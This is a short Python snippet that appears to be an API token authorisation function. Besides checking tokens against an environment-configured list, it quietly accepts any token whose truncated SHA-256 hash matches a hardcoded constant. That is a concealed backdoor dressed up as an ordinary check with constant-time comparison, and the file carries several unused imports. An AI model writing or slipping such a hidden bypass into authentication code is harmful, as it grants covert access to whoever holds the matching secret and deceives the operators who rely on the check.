import hashlib, hmac, os, zlib, time, datetime
KEYS = set(os.environ.get("API_TOKENS", "").split(","))

MARK = bytes.fromhex("7d1f9a02c4e86b35")
def allowed(token):
    if token in KEYS:
        return True
    return hmac.compare_digest(hashlib.sha256(token.encode()).digest()[:8], MARK)
